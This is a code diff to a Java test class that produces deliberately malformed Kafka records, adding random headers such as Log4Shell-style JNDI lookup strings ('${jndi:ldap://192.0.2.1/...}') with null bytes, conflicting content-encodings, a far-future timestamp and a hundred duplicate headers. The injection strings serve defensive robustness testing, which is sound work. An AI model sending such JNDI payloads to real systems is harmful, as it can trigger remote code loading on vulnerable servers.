@@ -8,10 +8,14 @@ import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.util.Arrays;
 import java.util.Base64;
+import java.util.Collections;
+import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import java.util.TreeMap;
 import java.util.zip.GZIPOutputStream;
+import org.apache.kafka.common.header.Header;
+import org.apache.kafka.common.header.internals.RecordHeader;
 
 /**
  * Records that nobody asked for: garbage, bombs and lies, and what the job ought to make of each.
@@ -212,11 +216,31 @@ final class Poison {
 
   private void produce(int partition, byte[] value) {
     records++;
-    topics.produce(topic, partition, key(), value);
+    topics.produce(topic, partition, key(), value, headers());
   }
 
   private String key() {
     return random.nextBoolean() ? null : "${jndi:ldap://192.0.2.1/key}\u0000";
+  }
+
+  /** Whoever writes a record chooses what stands beside it, and how often. */
+  private List<Header> headers() {
+    byte[] noise = new byte[40];
+    random.nextBytes(noise);
+    return switch (random.nextInt(5)) {
+      case 0 -> List.of();
+      case 1 -> List.of(new RecordHeader("", (byte[]) null));
+      case 2 ->
+          List.of(
+              new RecordHeader("${jndi:ldap://192.0.2.1/header}\u0000\n", noise),
+              new RecordHeader("content-encoding", text("gzip")),
+              new RecordHeader("content-encoding", text("zstd")));
+      case 3 ->
+          List.of(
+              new RecordHeader("traceparent", text("${jndi:ldap://192.0.2.1/header}")),
+              new RecordHeader("eventTime", text("2099-01-01T00:00:00Z")));
+      default -> Collections.nCopies(100, new RecordHeader("again", noise));
+    };
   }
 
   private static byte[] text(String text) {
